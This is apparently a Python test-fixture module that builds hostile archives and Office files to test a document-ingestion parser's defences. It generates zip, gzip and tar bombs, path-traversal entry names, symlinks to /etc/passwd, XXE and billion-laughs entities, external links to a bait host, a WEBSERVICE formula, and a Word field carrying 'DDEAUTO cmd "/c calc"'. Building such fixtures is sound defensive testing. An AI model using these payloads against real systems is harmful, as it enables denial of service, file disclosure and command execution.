"""Archives and the formats that are archives: bombs, names that lead out, archives in themselves, parts that lie or refer elsewhere."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.files import BOMB, SENTENCES, Bait, Hostile, hostile
from tests.hostile.markup import LAUGHS, bomb, doctype
from tests.hostile.whole import (
    MARKDOWN,
    link,
    paragraph,
    relations,
    row,
    shape,
    sheet,
    slides,
    tarred,
    whole,
    word,
    zipped,
)
from tests.ingestion.documents import locked

MIB = 1024 * 1024
WAYS_OUT = (
    "../../../../tmp/lexops-escaped.md", "/tmp/lexops-escaped.md", "..\\..\\lexops-escaped.md", "C:\\lexops-escaped.md", "a/../../b.md",
    "./././a.md", "a\x00.md", "", ".", "/", "aux.md", "a" * 5000 + ".md", "～/甲.md", "甲/" * 500 + "乙.md",
)  # fmt: skip


def files(bait: Bait) -> Iterator[Hostile]:
    """All of them."""
    yield from _archives()
    yield from _tapes()
    yield from _word(bait)
    yield from _word_sizes()
    yield from _lying()
    yield from _sheets(bait)
    yield from _slides(bait)


def _archives() -> Iterator[Hostile]:
    for number, name in enumerate(WAYS_OUT):
        yield hostile(f"a way out {number}.zip", zipped({name: MARKDOWN}))
    yield hostile("a bomb.zip", bomb(BOMB, 0))
    yield hostile("a bomb in archives.zip", bomb(BOMB, 8))
    yield hostile("archives in archives.zip", bomb(10, 60))
    yield hostile("many bombs.zip", zipped({f"{n}.zip": bomb(BOMB // 20, 0) for n in range(40)}))
    yield hostile("overlapping.zip", _overlapping(300))
    yield hostile("many parts.zip", zipped({f"{n}.txt": b"" for n in range(20_000)}))
    yield hostile("one name.zip", _one_name())
    yield hostile("a link.zip", _linked("/etc/passwd"))
    yield hostile("nothing.zip", zipped({}))
    yield hostile("a password.zip", locked(zipped({"a.md": MARKDOWN})))
    yield hostile(
        "a list of parts that is a bomb.docx", zipped({"[Content_Types].xml": bytes(BOMB)})
    )
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield hostile(f"method {method}.zip", zipped({"a.md": MARKDOWN}, method))
    yield hostile("method 99.zip", zipped({"a.md": MARKDOWN}).replace(b"\x08\x00", b"\x63\x00"))
    yield hostile("a bomb.gz", gzip.compress(bytes(BOMB), mtime=0))
    yield hostile("gz in gz.gz", _repeated(gzip.compress, 100))
    yield hostile("many members.gz", gzip.compress(b"", mtime=0) * 50_000)
    yield hostile("bzip2.bz2", bz2.compress(MARKDOWN.encode()))
    yield hostile("xz.xz", lzma.compress(bytes(BOMB)))
    yield hostile("seven.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(500))
    yield hostile("rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(500))


def _tapes() -> Iterator[Hostile]:
    for number, name in enumerate(WAYS_OUT[:5]):
        yield hostile(f"a way out {number}.tar", tarred({name: MARKDOWN.encode()}))
    for kind in (
        tarfile.SYMTYPE,
        tarfile.LNKTYPE,
        tarfile.CHRTYPE,
        tarfile.FIFOTYPE,
    ):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode="w") as archive:
            entry = tarfile.TarInfo("a.md")
            entry.type, entry.linkname = kind, "/etc/passwd"
            archive.addfile(entry)
        yield hostile(f"kind {kind.decode()}.tar", stream.getvalue())
    whole_tar = bytearray(tarred({"a.md": MARKDOWN.encode()}))
    whole_tar[124:136] = b"\x80" + (1 << 60).to_bytes(11, "big")  # a size of a billion gigabytes
    yield hostile("a size.tar", bytes(whole_tar))
    yield hostile("many.tar", tarred({f"{n}.txt": b"" for n in range(1000)}))
    yield hostile("a tape in gz.tar.gz", gzip.compress(tarred({"../a.md": b"x"}), mtime=0))


def _word(bait: Bait) -> Iterator[Hostile]:
    """Word files that refer to what is not in them."""
    text = "".join(paragraph(line) for line in SENTENCES.splitlines())
    away = f"http://{bait.host}/x"
    for kind in (
        "image",
        "attachedTemplate",
        "subDocument",
        "oleObject",
        "hyperlink",
        "frame",
        "settings",
        "styles",
        "numbering",
        "afChunk",
    ):
        for target in (away, bait.file.as_uri()):
            yield hostile(
                f"{kind} {target[:4]}.docx",
                word(
                    text,
                    link(
                        1,
                        kind,
                        target,
                        "External",
                    ),
                ),
            )
    yield hostile(
        "a field.docx",
        word(
            text
            + f'<w:p><w:r><w:instrText>INCLUDETEXT "{bait.file}" DDEAUTO cmd "/c calc"</w:instrText></w:r></w:p>'
        ),
        "indexed",
    )
    for name, entities in (
        ("laughs", LAUGHS),
        ("file", f'<!ENTITY l9 SYSTEM "{bait.file.as_uri()}">'),
        ("host", f'<!ENTITY l9 SYSTEM "{away}">'),
        ("parameter", f'<!ENTITY l9 "甲"><!ENTITY % p SYSTEM "{away}">%p;'),
    ):
        yield hostile(
            f"entities {name}.docx",
            word(text + paragraph("&l9;"), declaration=doctype("w:document", entities)),
        )
    yield hostile("doctype.docx", word(text, declaration=f'<!DOCTYPE w:document SYSTEM "{away}">'))
    parts: dict[str, bytes | str] = {
        name: MARKDOWN for name in WAYS_OUT if name.isprintable() and name
    }
    yield hostile("ways out.docx", word(text, more=parts))
    for target in (
        "../../../../etc/passwd",
        "document.xml",
        "/word/document.xml",
        "NULL",
        "",
        "media/none.png",
        "a%00b",
        "#甲",
    ):
        yield hostile(
            f"to {target.replace('/', ' ')}.docx",
            word(
                text,
                link(
                    1,
                    "image",
                    target,
                ),
            ),
        )
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>'
        for n in range(3)
    )
    styles = f'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{ring}</w:styles>'
    kind = '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
    styled = text.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr>')
    yield hostile(
        "a ring of styles.docx",
        word(
            styled,
            link(1, "styles", "styles.xml"),
            more={"word/styles.xml": styles},
            types=kind,
        ),
        "indexed",
    )
    ringed = {"word/_rels/a.xml.rels": relations(link(1, "image", "a.xml")), "word/a.xml": "<a/>"}
    yield hostile(
        "a ring of parts.docx",
        word(
            text,
            link(1, "image", "a.xml"),
            more=ringed,
        ),
    )


def _word_sizes() -> Iterator[Hostile]:
    """Word files that are deep, wide or long."""
    text = paragraph("甲")
    open_, close = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    for depth in (30, 80, 5000):
        yield hostile(f"{depth} tables deep.docx", word(open_ * depth + text + close * depth))
    for tag in ("w:ins", "w:sdt", "w:customXml", "w:smartTag", "a"):
        yield hostile(
            f"{tag.partition(':')[2] or tag} 500 deep.docx",
            word(f"<{tag}>" * 250 + text + f"</{tag}>" * 250),
        )
    two = f"<w:tbl><w:tr><w:tc>{text}</w:tc><w:tc>%s</w:tc></w:tr></w:tbl>"
    nested = text
    for _ in range(60):
        nested = two.replace("%s", nested)
    yield hostile("two by two 60 deep.docx", word(nested))
    box = text
    for _ in range(40):
        box = f"<w:p><w:r><w:t>甲</w:t><w:pict><w:txbxContent>{box}{box if len(box) < 200_000 else ''}</w:txbxContent></w:pict></w:r></w:p>"
    yield hostile("boxes in boxes.docx", word(box))
    yield hostile("a long part.docx", word(text * 20_000))
    yield hostile(
        "a part beyond the limit.docx",
        word(text, more={"word/a.xml": bytes(BOMB)}),
        "expansion",
    )
    yield hostile("an endless word.docx", word(paragraph("法" * 6_000_000)))
    yield hostile(
        "many tabs.docx",
        word("<w:p><w:r>" + "<w:tab/><w:br/>" * 200_000 + "<w:t>甲</w:t></w:r></w:p>"),
    )
    yield hostile(
        "wide.docx", word("<w:tbl><w:tr>" + f"<w:tc>{text}</w:tc>" * 20_000 + "</w:tr></w:tbl>")
    )
    yield hostile(
        "spans.docx",
        word(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{text}</w:tc><w:tc>{text}</w:tc></w:tr></w:tbl>'
        ),
    )
    yield hostile(
        "odd values.docx",
        word(
            '<w:p><w:pPr><w:outlineLvl w:val="²"/><w:numPr><w:numId w:val=""/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>'
            + text
        ),
    )
    yield hostile("no body.docx", word("").replace(b"w:body", b"w:bodx"))
    yield hostile(
        "nothing in it.docx",
        word(""),
        "empty",
    )
    for name, part in {
        "noise": b"\x00\xff" * 500,
        "utf-16": "<a/>".encode("utf-16"),
        "nothing": b"",
        "a page": b"<html><p>x",
    }.items():
        yield hostile(f"document of {name}.docx", word("", more={"word/document.xml": part}))


def _lying() -> Iterator[Hostile]:
    """Word files whose archive says what is not so."""
    data = whole()["docx"]
    yield hostile(
        "a password.docx",
        locked(data),
        "encrypted",
    )
    for name, size in (("small", 10), ("large", 2**31)):
        yield hostile(
            f"{name} sizes.docx",
            _resized(data, size),
            "corrupt",
            "expansion",
            "empty",
        )
    yield hostile("a long comment.docx", data[:-2] + struct.pack("<H", 65_535) + bytes(65_535))
    yield hostile(
        "a directory elsewhere.docx",
        data[:-6] + struct.pack("<I", 2**31) + data[-2:],
        "corrupt",
    )
    yield hostile(
        "many parts.docx",
        word(paragraph("甲"), more={f"word/media/{n}.png": b"" for n in range(10_500)}),
        "expansion",
    )
    yield hostile("no types.docx", zipped({"word/document.xml": "<a/>"}))
    yield hostile(
        "types alone.docx",
        zipped({"[Content_Types].xml": "wordprocessingml.document.main+xml"}),
        "corrupt",
    )


def _sheets(bait: Bait) -> Iterator[Hostile]:
    for name, rows, strings in (
        (
            "far corner",
            '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
            "",
        ),
        (
            "beyond the corner",
            '<sheetData><row r="99999999999"><c r="ZZZZZ99999999999"><v>1</v></c></row></sheetData>',
            "",
        ),
        (
            "no such string",
            '<sheetData><row><c t="s"><v>99999999</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c></row></sheetData>',
            "",
        ),
        (
            "merged",
            f"<sheetData>{row('甲')}</sheetData>" + '<mergeCell ref="A1:XFD1048576"/>' * 500,
            "",
        ),
        ("wide", f"<sheetData>{row(*['甲'] * 16_384) * 4}</sheetData>", ""),
        ("long", f"<sheetData>{row('甲', '乙') * 100_000}</sheetData>", ""),
        ("many strings", f"<sheetData>{row('甲')}</sheetData>", "<si><t>甲</t></si>" * 200_000),
        ("an endless cell", f"<sheetData>{row('甲', '工' * 3_000_000)}</sheetData>", ""),
        (
            "formulas",
            f"<sheetData><row><c><f>WEBSERVICE(\"http://{bait.host}/\")</f></c><c><f>'{bait.file}'!A1</f></c></row></sheetData>",
            "",
        ),
        (
            "odd numbers",
            '<sheetData><row><c><v>1e999</v></c><c s="99"><v>nan</v></c><c t="d"><v>99999-99-99</v></c><c t="e"><v>#REF!</v></c></row></sheetData>',
            "",
        ),
    ):
        yield hostile(f"{name}.xlsx", sheet(rows, strings))
    for name, entities in (
        ("laughs", LAUGHS),
        ("file", f'<!ENTITY l9 SYSTEM "{bait.file.as_uri()}">'),
    ):
        yield hostile(
            f"entities {name}.xlsx",
            sheet(
                f"<sheetData>{row('&l9;')}</sheetData>",
                "<si><t>&l9;</t></si>",
                doctype("a", entities),
            ),
        )
    yield hostile(
        "a large sheet.xlsx", sheet("<sheetData>" + "<row/>" * 1_500_000 + "</sheetData>")
    )


def _slides(bait: Bait) -> Iterator[Hostile]:
    yield hostile("many shapes.pptx", slides(shape("甲") * 10_000))
    group, end = (
        "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='1' name=''/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>",
        "</p:grpSp>",
    )
    for depth in (50, 200):
        yield hostile(
            f"{depth} groups deep.pptx", slides(group * depth + shape("甲") + end * depth)
        )
    yield hostile("laughs.pptx", slides(shape("&l9;"), doctype("a", LAUGHS)))
    yield hostile(
        "references.pptx",
        slides(
            shape("甲"),
            links=link(
                1,
                "image",
                f"http://{bait.host}/a.png",
                "External",
            )
            + link(
                2,
                "oleObject",
                bait.file.as_uri(),
                "External",
            ),
        ),
    )
    yield hostile(
        "a ring.pptx",
        slides(
            shape("甲"), links=link(1, "slide", "slide1.xml") + link(2, "slideLayout", "slide1.xml")
        ),
    )


def _repeated(pack: object, times: int) -> bytes:
    data = b"x"
    for _ in range(times):
        data = pack(data)  # type: ignore[operator]
    return data


def _one_name() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for n in range(500):
            archive.writestr(zipfile.ZipInfo("a.md"), str(n))
    return stream.getvalue()


def _linked(target: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        entry = zipfile.ZipInfo("a.md")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, target)
    return stream.getvalue()


def _resized(data: bytes, size: int) -> bytes:
    """Every part said to be so large, in the directory alone."""
    changed, start = bytearray(data), data.find(b"PK\x01\x02")
    while start >= 0:
        changed[start + 24 : start + 28] = struct.pack("<I", size)
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(changed)


def _overlapping(entries: int) -> bytes:
    """Entries that all are the same compressed bytes: a bomb of one layer."""
    packed = zlib.compress(bytes(MIB), 9)[2:-4]
    crc = zlib.crc32(bytes(MIB))
    sizes = struct.pack(
        "<III",
        crc,
        len(packed),
        MIB,
    )
    local = (
        struct.pack("<4sHHHHH", b"PK\x03\x04", 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HH", 5, 0)
        + b"0.txt"
        + packed
    )
    central = b"".join(
        struct.pack("<4sHHHHHH", b"PK\x01\x02", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHII", 9, 0, 0, 0, 0, 0, 0)
        + b"%05d.txt" % n
        for n in range(entries)
    )
    return (
        local
        + central
        + struct.pack(
            "<4sHHHHIIH",
            b"PK\x05\x06",
            0,
            0,
            entries,
            entries,
            len(central),
            len(local),
            0,
        )
    )
